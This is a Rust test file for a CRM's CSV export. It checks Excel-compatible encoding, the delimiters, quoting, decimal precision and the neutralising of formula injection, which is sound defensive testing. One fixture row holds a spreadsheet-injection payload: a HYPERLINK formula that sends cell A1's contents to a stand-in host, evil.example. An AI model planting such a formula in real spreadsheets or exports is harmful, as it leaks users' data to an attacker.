//! CSV read back with the `csv` crate and checked byte for byte where Excel is picky.

mod common;

use common::*;
use orbita_domain::org::Locale;
use orbita_domain::validation::{Currency, Money};
use orbita_export::{Cell, Column, ColumnKind, ExportError, ExportWriter, Format};
use proptest::prelude::*;
use rust_decimal::Decimal;

fn strings(row: &[&str]) -> Vec<String> {
    row.iter().map(|s| (*s).to_owned()).collect()
}

#[test]
fn russian_csv_opens_in_russian_excel() {
    let bytes = export(Format::Csv, Locale::Ru, columns(), &rows());
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"), "BOM first");
    let text = std::str::from_utf8(&bytes[3..]).expect("utf-8");
    let lines: Vec<&str> = text.split_inclusive("\r\n").collect();
    assert_eq!(lines[0], "Компания;Сделок;Сумма;Конверсия;Создана;Последнее касание\r\n");
    assert_eq!(lines[1], "ООО «Ромашка»;42;1500000,50;42,35%;2025-12-31;2025-12-31 23:59:05\r\n");
    assert_eq!(lines[3], ";;;;;\r\n");
    assert_eq!(lines.len(), 5);

    let records = read_csv(&bytes, b';');
    assert_eq!(
        records[2],
        strings(&[
            "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "-7",
            "0,07",
            "100%",
            "1900-01-01",
            "2024-02-29 00:00:00"
        ])
    );
    assert_eq!(
        records[4],
        strings(&[
            "'+7 916 123-45-67",
            "9223372036854775807",
            "99999999999,99",
            "-0,5%",
            "1899-12-31",
            "'+10000-01-01 12:00:00"
        ])
    );
}

#[test]
fn english_csv() {
    let bytes = export(Format::Csv, Locale::En, columns(), &rows());
    let text = std::str::from_utf8(&bytes[3..]).expect("utf-8");
    assert!(text.starts_with("Компания,Сделок,Сумма,Конверсия,Создана,Последнее касание\r\n"));
    assert!(text.contains("\r\nООО «Ромашка»,42,1500000.50,42.35%,2025-12-31,2025-12-31 23:59:05\r\n"));
    let records = read_csv(&bytes, b',');
    assert_eq!(records[2][2], "0.07");
    assert_eq!(records.len(), 5);
}

#[test]
fn quoting_keeps_awkward_text_in_one_field() {
    let columns = vec![Column::new("Название", ColumnKind::Text), Column::new("Сумма", ColumnKind::Money)];
    let awkward = [
        "Рога; копыта",
        "Рога, копыта",
        "две\nстроки",
        "возврат\rкаретки",
        "ООО \"Кавычки\"",
        " пробелы по краям ",
        "a;=1+1",
        "",
    ];
    let rows: Vec<Vec<Cell>> = awkward.iter().map(|t| vec![text(t), rub(100)]).collect();
    for (locale, delimiter) in [(Locale::Ru, b';'), (Locale::En, b',')] {
        let bytes = export(Format::Csv, locale, columns.clone(), &rows);
        let records = read_csv(&bytes, delimiter);
        for (record, expected) in records[1..].iter().zip(awkward) {
            assert_eq!(record.len(), 2, "{expected:?} stayed one field");
            assert_eq!(record[0], expected);
        }
    }
    let raw = String::from_utf8(export(Format::Csv, Locale::Ru, columns, &rows)).expect("utf-8");
    assert!(raw.contains("\r\n\"Рога; копыта\";1,00\r\n"));
    assert!(raw.contains("\r\nРога, копыта;1,00\r\n"), "a comma needs no quotes with ';'");
    assert!(raw.contains("\r\n\"ООО \"\"Кавычки\"\"\";1,00\r\n"));
}

#[test]
fn money_keeps_every_decimal() {
    let columns = vec![Column::new("Сумма", ColumnKind::Money), Column::new("Доля", ColumnKind::Percent)];
    let odd = Money { amount: Decimal::new(10_005, 3), currency: Currency::EUR };
    let rows = vec![
        vec![Cell::Money(odd), Cell::Percent(Decimal::new(1, 28))],
        vec![Cell::Money(Money::from_minor(-150_000, Currency::RUB)), Cell::Percent(Decimal::ZERO)],
    ];
    let records = read_csv(&export(Format::Csv, Locale::Ru, columns, &rows), b';');
    assert_eq!(records[1], strings(&["10,005", &format!("0,{}1%", "0".repeat(25))]));
    assert_eq!(records[2], strings(&["-1500,00", "0%"]));
}

#[test]
fn bad_rows_are_refused() {
    let mut writer = ExportWriter::new(Format::Csv, "", columns(), Locale::Ru, Vec::new()).expect("starts");
    assert!(matches!(writer.write_row(&[]), Err(ExportError::RowLength { expected: 6, got: 0 })));
    let mut row = rows()[0].clone();
    row[0] = Cell::Integer(1);
    assert!(matches!(writer.write_row(&row), Err(ExportError::CellKind { index: 0, .. })));
    writer.write_row(&rows()[0]).expect("good row");
    let (written, bytes) = writer.finish_into_inner().expect("finishes");
    assert_eq!(written, 1);
    assert_eq!(read_csv(&bytes, b';').len(), 2);
}

#[test]
fn no_row_limit_for_csv() {
    let columns = vec![Column::new("n", ColumnKind::Integer)];
    let mut writer =
        ExportWriter::new(Format::Csv, "", columns, Locale::En, std::io::sink()).expect("starts");
    for n in 0..=orbita_export::MAX_XLSX_ROWS as i64 {
        writer.write_row(&[Cell::Integer(n)]).expect("row");
    }
    assert_eq!(writer.finish().expect("finishes"), orbita_export::MAX_XLSX_ROWS + 1);
}

proptest! {
    /// Any text comes back exactly, apart from the `'` in front of a formula trigger.
    #[test]
    fn text_round_trips(value in "\\PC*|[=+\\-@\\t\\r\\n\";, ]{0,6}\\PC{0,10}", ru in any::<bool>()) {
        let (locale, delimiter) = if ru { (Locale::Ru, b';') } else { (Locale::En, b',') };
        let columns = vec![Column::new("a", ColumnKind::Text), Column::new("b", ColumnKind::Text)];
        let rows = vec![vec![text(&value), text("after")]];
        let records = read_csv(&export(Format::Csv, locale, columns, &rows), delimiter);
        prop_assert_eq!(records.len(), 2);
        let expected = if value.starts_with(orbita_export::FORMULA_TRIGGERS) {
            format!("'{value}")
        } else {
            value.clone()
        };
        prop_assert_eq!(&records[1][0], &expected);
        prop_assert_eq!(&records[1][1], "after");
    }
}
